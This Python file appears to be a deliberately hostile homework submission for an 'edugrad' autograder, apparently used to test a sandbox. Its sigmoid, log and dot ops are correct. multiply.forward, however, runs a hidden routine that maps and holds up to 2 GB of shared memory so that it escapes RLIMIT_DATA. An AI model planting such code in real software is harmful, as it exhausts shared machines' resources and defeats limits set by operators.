# HOSTILE: multiply.forward maps shared anonymous memory (not counted by RLIMIT_DATA) in 64 MB pieces and touches every page, 2 GB at most, and keeps it (once per process: later calls find it held), then raises an error saying how much it got; the other ops are correct.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import mmap

import numpy as np

from edugrad.operation import Operation, tensor_op

_KEPT = []


def _attack():
    if _KEPT:
        raise RuntimeError(f"mmap bomb: still holding {64 * len(_KEPT)} MB")
    error = "no error"
    try:
        for _ in range(32):
            flags = mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | getattr(mmap, "MAP_POPULATE", 0)
            m = mmap.mmap(-1, 64 << 20, flags=flags)  # every page made real at once
            _KEPT.append(m)
            np.frombuffer(m, dtype=np.uint8)[::4096] = 1
    except (OSError, MemoryError, ValueError) as err:
        error = type(err).__name__
    raise RuntimeError(f"mmap bomb: mapped {64 * len(_KEPT)} MB ({error})")


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        (a,) = ctx
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        _attack()
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
